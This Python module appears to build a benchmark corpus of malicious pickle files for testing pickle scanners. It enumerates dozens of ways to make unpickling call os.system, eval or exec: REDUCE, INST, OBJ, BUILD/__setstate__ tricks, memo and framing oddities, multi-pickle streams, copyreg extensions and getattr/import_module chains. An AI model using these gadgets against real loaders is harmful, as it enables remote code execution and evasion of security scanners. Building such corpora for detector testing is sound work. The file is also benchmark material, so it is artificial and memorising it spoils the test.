"""Every opcode that imports, builds or calls, in every protocol, and every way to spell it oddly.

The payload is always the same shell command: what varies is how the unpickler is led to it.
Source: CPython's Lib/pickletools.py and Modules/_pickle.c.
"""

from __future__ import annotations

import io
import pickle
from collections.abc import Iterator

from bench.corpus.case import CODE, COMMAND, EXPRESSION, Case, fail
from bench.corpus.opcodes import (
    EMPTY_DICT,
    EMPTY_TUPLE,
    NONE,
    call,
    listed,
    mapped,
    name,
    number,
    octets,
    pickled,
    several,
    shell,
    short,
    stacked,
    text,
)

SYSTEM = "Runs a shell command"
_LINE = f"S'{COMMAND}'\n".encode()


class _Gadget:
    """What a pickler writes for an object whose `__reduce__` names a function."""

    def __init__(self, function: object, *arguments: object) -> None:
        self.reduced = (function, arguments)

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.reduced


def _protocols(seed: int) -> Iterator[Case]:
    import os

    for protocol in range(6):
        data = pickle.dumps(_Gadget(os.system, COMMAND), protocol)
        yield fail(f"reduce_protocol_{protocol}.pkl", data, f"{SYSTEM}: REDUCE, written by pickle.")
        data = pickle.dumps({"weights": [1.0] * 9, "hook": _Gadget(eval, EXPRESSION)}, protocol)
        yield fail(f"nested_protocol_{protocol}.pkl", data, "Evaluates text, deep in a dictionary.")
    out = io.BytesIO()
    slow = pickle._Pickler(out, 4)
    slow.fast = True
    slow.dump(_Gadget(exec, CODE))
    yield fail("fast_pickler.pkl", out.getvalue(), "Executes code: written without a memo.")


_IMPORTS = {
    "global": name("os", "system"),
    "global_posix": name("posix", "system"),
    "stack_global": stacked("os", "system"),
    "stack_global_string": b"U\x02osU\x06system\x93",
    "stack_global_unicode_line": b"Vos\nVsystem\n\x93",
    "stack_global_string_line": b"S'os'\nS'system'\n\x93",
    "stack_global_double_quotes": b'S"os"\nS"system"\n\x93',
    "stack_global_escapes": b"Vo\\u0073\nVsy\\u0073tem\n\x93",
    "stack_global_hex_escapes": b"S'\\x6fs'\nS'\\x73ystem'\n\x93",
    "stack_global_long": b"\x8d\x02" + bytes(7) + b"os" + b"\x8d\x06" + bytes(7) + b"system\x93",
    "stack_global_mixed": b"T\x02\x00\x00\x00os" + short("system") + b"\x93",
    "dotted": stacked("os", "path.os.system"),
    "dotted_global": name("os", "path.os.system"),
    "dotted_elsewhere": stacked("shutil", "os.system"),
    "dotted_deep": stacked("logging", "os.path.genericpath.os.system"),
    "dotted_innocent_root": stacked("random", "_os.system"),
    "dotted_site": stacked("sklearn", "logging.os.system"),
    "dotted_numpy": stacked("numpy", "testing._private.utils.os.system"),
    "old_name": b"c__builtin__\neval\n",
}


def _imports(seed: int) -> Iterator[Case]:
    for slug, imported in _IMPORTS.items():
        protocol = 2 if slug == "old_name" else 4
        argument = text(EXPRESSION if slug == "old_name" else COMMAND)
        yield fail(
            f"import_{slug}.pkl",
            pickled(imported + argument + b"\x85R", protocol),
            f"{SYSTEM}: the import is spelled as {slug}.",
        )


_CALLS = {
    "inst": b"(" + _LINE + b"ios\nsystem\n.",
    "inst_after_mark": b"((lp0\n0(" + _LINE + b"iposix\nsystem\n.",
    "obj": b"(cos\nsystem\n" + _LINE + b"o.",
    "reduce_bare": b"cos\nsystem\n(" + _LINE + b"tR.",
    "reduce_tuple1": pickled(name("os", "system") + text(COMMAND) + b"\x85R", 2),
    "reduce_list_to_tuple": pickled(
        name("os", "system") + call(name("builtins", "tuple"), listed(text(COMMAND))) + b"R"
    ),
    "newobj_map": pickled(
        name("builtins", "list")
        + several(
            name("builtins", "map") + several(name("os", "system"), listed(text(COMMAND))) + b"\x81"
        )
        + b"R"
    ),
    "newobj_ex_open": pickled(
        name("_io", "FileIO")
        + several(text("made"), text("w"))
        + EMPTY_DICT
        + b"\x92"
        + b"0"
        + shell()
    ),
    "build_setstate": pickled(
        call(name("functools", "partial"), name("os", "system"))
        + several(name("os", "system"), several(text(COMMAND)), EMPTY_DICT, NONE)
        + b"b"
        + EMPTY_TUPLE
        + b"R"
    ),
    "build_dict_shadow": pickled(
        # The state names __setstate__, and the next BUILD calls it.
        call(name("types", "SimpleNamespace"))
        + mapped(("__setstate__", name("os", "system")))
        + b"b"
        + text(COMMAND)
        + b"b"
    ),
    "build_class_setstate": pickled(
        name("argparse", "Namespace")
        + EMPTY_TUPLE
        + b"\x81"
        + mapped(("__setstate__", name("builtins", "eval")))
        + b"b"
        + text(EXPRESSION)
        + b"b"
    ),
    "setitems_hook": pickled(
        call(name("collections", "defaultdict"), name("os", "getcwd")) + shell() + b"0"
    ),
    "appends_extend": pickled(
        call(name("types", "SimpleNamespace"))
        + mapped(("extend", name("subprocess", "call")), ("append", name("os", "system")))
        + b"b("
        + text("/bin/true")
        + b"e"
    ),
    "additems_add": pickled(
        call(name("types", "SimpleNamespace"))
        + mapped(("add", name("os", "system")))
        + b"b("
        + text(COMMAND)
        + b"\x90"
    ),
    "key_of_dict": pickled(b"}" + shell() + number(1) + b"s"),
    "in_frozenset": pickled(b"(" + shell() + b"\x91"),
    "popped": pickled(shell() + b"0N"),
    "popped_by_mark": pickled(b"(" + shell() + b"1N"),
    "second_value": b"N" + shell() + b".",
}


def _calls(seed: int) -> Iterator[Case]:
    for slug, data in _CALLS.items():
        yield fail(f"call_{slug}.pkl", data, f"{SYSTEM}: called by way of {slug}.")


_ODD = {
    "numbers_hex": b"I0x1\n0L0x10L\n0" + shell() + b".",
    "numbers_underscore": b"I1_000\n0" + shell() + b".",
    "numbers_space": b"I 7 \n0" + shell() + b".",
    "numbers_bool": b"I01\n0I00\n0" + shell() + b".",
    "numbers_float": b"Finf\n0Fnan\n0F-0\n0" + shell() + b".",
    "long_empty": b"\x80\x02\x8a\x000" + shell() + b".",
    "long4_padded": b"\x80\x02\x8b\x04\x00\x00\x00\x01\x00\x00\x000" + shell() + b".",
    "protocol_repeated": b"\x80\x04\x80\x02\x80\x05" + shell() + b".",
    "protocol_late": shell() + b"\x80\x04.",
    "no_protocol": shell() + b".",
    "protocol_below_opcodes": b"\x80\x00" + stacked("os", "system") + text(COMMAND) + b"\x85R.",
    "frame_nested": b"\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00N0N" + shell() + b".",
    "frame_empty": b"\x80\x04\x95" + bytes(8) + shell() + b".",
    "memo_put_get": b"cos\nsystem\np0\n0g0\n(" + _LINE + b"tR.",
    "memo_sparse": b"cos\nsystem\np99\n0Np0\n0g99\n(" + _LINE + b"tR.",
    "memo_overwritten": b"\x80\x04"
    + short("math")
    + b"q\x000"
    + short("os")
    + b"q\x000h\x00"
    + short("system")
    + b"\x93"
    + text(COMMAND)
    + b"\x85R.",
    "memo_padded_number": b"cos\nsystem\np 007\n0g7\n(" + _LINE + b"tR.",
    "memo_memoize": b"\x80\x04"
    + short("os")
    + b"\x94"
    + short("system")
    + b"\x9400h\x00h\x01\x93"
    + text(COMMAND)
    + b"\x85R.",
    "memo_long": b"\x80\x04"
    + short("os")
    + b"r\xe8\x03\x00\x000j\xe8\x03\x00\x00"
    + short("system")
    + b"\x93"
    + text(COMMAND)
    + b"\x85R.",
    "memo_mixed_puts": b"\x80\x04"
    + short("os")
    + b"q\x05\x940h\x05"
    + short("system")
    + b"\x93"
    + text(COMMAND)
    + b"\x85R.",
    "dup_name": b"\x80\x04"
    + short("system")
    + short("os")
    + b"20"
    + b"q\x000q\x010h\x00h\x01\x93"
    + text(COMMAND)
    + b"\x85R.",
    "dup_callable": b"cos\nsystem\n2(" + _LINE + b"tR.",
    "mark_in_mark": b"((((1" + name("os", "system") + b"(" + _LINE + b"tR.",
    "decoy_long_text": text("a" * 70_000) + b"0" + shell() + b".",
    "decoy_many_nones": b"N0" * 60_000 + shell() + b".",
    "decoy_deep_lists": b"]" * 3000 + b"1" * 0 + shell() + b".",
    "no_stop": shell(),
    "broken_after": shell() + b"\xff\xff\xff",
    "broken_string_after": shell() + b"X\xff\xff\xff\x7f",
    "reserved_opcode_after": shell() + b"\xb0.",
    "stack_underflow_after": shell() + b"000000.",
    "next_buffer": b"\x80\x05" + shell() + b"\x970.",
    "bytearray8": b"\x80\x05\x96\x01" + bytes(7) + b"a0" + shell() + b".",
    "name_with_newline_escape": b"Vos\nVsystem\n\x93V" + COMMAND.encode() + b"\n\x85R.",
    "string_of_one_byte": b"\x80\x02U\x01\x7f0" + shell() + b".",
}


def _odd(seed: int) -> Iterator[Case]:
    for slug, data in _ODD.items():
        # Where the pickle breaks or gives way after the call, the call has been made.
        yield fail(f"odd_{slug}.pkl", data, f"{SYSTEM}; the file is odd: {slug}.")


def _streams(seed: int) -> Iterator[Case]:
    each, harmless = "pickle.load each", pickle.dumps({"a": 1}, 4)
    bad = pickled(shell())
    streams = {
        "second_pickle": (harmless + bad, each),
        "hundredth_pickle": (harmless * 99 + bad, each),
        "empty_pickles_first": (b"N." * 500 + bad, each),
        "first_of_two": (bad + harmless, "pickle.load"),
        "junk_after_stop": (bad + b"\xff" * 64, "pickle.load"),
        "protocols_mixed": (b"I1\n." + b"\x80\x02N." + harmless + bad, each),
        "proto0_then_proto5": (b"(dp0\n." + b"\x80\x05" + shell() + b".", each),
    }
    for slug, (data, loader) in streams.items():
        yield fail(f"stream_{slug}.pkl", data, f"{SYSTEM}: {slug}.", loader)
    yield fail(
        "stream_gap_zero_bytes.bin",
        harmless + bytes(32) + bad,
        f"{SYSTEM}, for a loader that seeks behind the padding.",
        "pickle.load after zeros",
    )


def _extensions(seed: int) -> Iterator[Case]:
    codes = {"ext1": b"\x82\x07", "ext2": b"\x83\x07\x00", "ext4": b"\x84\x07\x00\x00\x00"}
    for slug, code in codes.items():
        data = pickled(code + several(text(COMMAND)) + b"R", 2)
        reason = f"{SYSTEM} that the process has registered as extension 7 ({slug})."
        yield fail(f"extension_{slug}.pkl", data, reason, "pickle.load with extension")
        add = call(name("copyreg", "add_extension"), text("os"), text("system"), number(99))
        own = code[:1] + b"\x63" + code[2:]
        data = pickled(add + b"0" + own + several(text(COMMAND)) + b"R", 2)
        yield fail(f"extension_own_{slug}.pkl", data, f"{SYSTEM}: it registers {slug} itself.")
    table = call(name("copyreg", "pickle"), name("builtins", "dict"), name("os", "system"))
    yield fail(
        "copyreg_table.pkl", pickled(table + b"0" + shell()), f"{SYSTEM}, and hooks copyreg."
    )


def _persistent(seed: int) -> Iterator[Case]:
    loader = "pickle.load with persistent ids"
    for slug, data in {
        "persid": b"P" + COMMAND.encode() + b"\n0" + shell() + b".",
        "binpersid": pickled(text("storage") + b"Q0" + shell()),
        "call_as_id": pickled(shell() + b"Q"),
        "tuple_id": pickled(
            several(text("storage"), name("os", "system"), number(0)) + b"Q0" + shell()
        ),
    }.items():
        yield fail(f"persistent_{slug}.pkl", data, f"{SYSTEM} beside a persistent id.", loader)


def _reductions(seed: int) -> Iterator[Case]:
    module = call(name("importlib", "import_module"), text("os"))
    got = call(name("builtins", "getattr"), module, text("system"))
    chains = {
        "getattr_module": call(got, text(COMMAND)),
        "dunder_import": call(
            call(
                name("builtins", "getattr"),
                call(name("builtins", "__import__"), text("os")),
                text("system"),
            ),
            text(COMMAND),
        ),
        "sys_modules": call(
            call(
                name("builtins", "getattr"),
                call(stacked("sys", "modules.__getitem__"), text("os")),
                text("system"),
            ),
            text(COMMAND),
        ),
        "sys_modules_get": call(
            call(
                stacked("builtins", "getattr"),
                call(stacked("sys", "modules.get"), text("posix")),
                text("system"),
            ),
            text(COMMAND),
        ),
        "builtins_dict": call(
            call(stacked("builtins", "__dict__.get"), text("eval")), text(EXPRESSION)
        ),
        "attrgetter": call(
            call(call(name("operator", "attrgetter"), text("system")), module), text(COMMAND)
        ),
        "methodcaller": call(
            call(name("operator", "methodcaller"), text("system"), text(COMMAND)), module
        ),
        "itemgetter": call(
            call(call(name("operator", "itemgetter"), text("system")), stacked("os", "__dict__")),
            text(COMMAND),
        ),
        "name_from_join": call(
            call(
                name("builtins", "getattr"),
                module,
                call(stacked("builtins", "str.join"), text(""), listed(text("sys"), text("tem"))),
            ),
            text(COMMAND),
        ),
        "name_computed_on_stack": call(stacked("builtins", "str.lower"), text("OS"))
        + call(stacked("builtins", "str.lower"), text("SYSTEM"))
        + b"\x93"
        + several(text(COMMAND))
        + b"R",
        "name_reversed": call(stacked("builtins", "bytes.decode"), octets(b"os"))
        + call(stacked("builtins", "str.replace"), text("xyzsystem"), text("xyz"), text(""))
        + b"\x93"
        + several(text(COMMAND))
        + b"R",
        "resolve_name": call(
            call(name("pkgutil", "resolve_name"), text("os:system")), text(COMMAND)
        ),
        "pydoc_locate": call(call(name("pydoc", "locate"), text("os.system")), text(COMMAND)),
        "logging_resolve": call(
            call(stacked("logging.config", "_resolve"), text("os.system")),
            text(COMMAND),
        ),
        "find_class": call(
            call(
                stacked("pickle", "_Unpickler.find_class"),
                call(name("types", "SimpleNamespace")) + mapped(("proto", number(4))) + b"b",
                text("os"),
                text("system"),
            ),
            text(COMMAND),
        ),
        "lru_cache": call(
            call(name("functools", "lru_cache"), name("os", "system")), text(COMMAND)
        ),
        "reduce_fold": call(
            name("functools", "reduce"),
            name("builtins", "getattr"),
            listed(module, text("path"), text("os"), text("getcwd")),
        )
        + b"0"
        + shell(),
        "method_type": call(call(name("types", "MethodType"), name("os", "system"), text(COMMAND))),
        "operator_call": call(name("_operator", "call"), name("os", "system"), text(COMMAND)),
        "starmap": call(
            name("builtins", "list"),
            call(
                name("itertools", "starmap"), name("os", "system"), listed(several(text(COMMAND)))
            ),
        ),
        "filter_tuple": call(
            name("builtins", "tuple"),
            call(name("builtins", "filter"), name("os", "system"), listed(text(COMMAND))),
        ),
        "map_bytes": call(
            name("builtins", "bytes"),
            call(name("builtins", "map"), name("os", "system"), listed(text(COMMAND))),
        ),
        "map_deque": call(
            name("collections", "deque"),
            call(name("builtins", "map"), name("os", "system"), listed(text(COMMAND))),
        ),
        "map_set_newobj": name("builtins", "frozenset")
        + several(call(name("builtins", "map"), name("os", "system"), listed(text(COMMAND))))
        + b"\x81",
        "iter_sentinel": call(
            name("builtins", "next"),
            call(
                name("builtins", "iter"),
                call(name("functools", "partial"), name("os", "system"), text(COMMAND)),
                number(-1),
            ),
        ),
        "defaultdict_missing": call(
            stacked("collections", "defaultdict.__missing__"),
            call(
                name("collections", "defaultdict"),
                call(name("functools", "partial"), name("os", "system"), text(COMMAND)),
            ),
            number(1),
        ),
        "reduce_ex_type": call(
            call(
                name("builtins", "type"),
                text("X"),
                several(name("builtins", "object")),
                mapped(("__setstate__", name("os", "system"))),
            )
        )
        + text(COMMAND)
        + b"b",
        "metaclass_call": call(
            name("builtins", "type"),
            text("X"),
            several(),
            mapped(("x", shell())),
        ),
        "copyreg_reconstructor": call(
            name("copyreg", "_reconstructor"),
            name("builtins", "object"),
            name("builtins", "object"),
            NONE,
        )
        + b"0"
        + shell(),
    }
    for slug, body in chains.items():
        yield fail(f"chain_{slug}.pkl", pickled(body), f"{SYSTEM}: computed by {slug}.")


PARTS = (_protocols, _imports, _calls, _odd, _streams, _extensions, _persistent, _reductions)
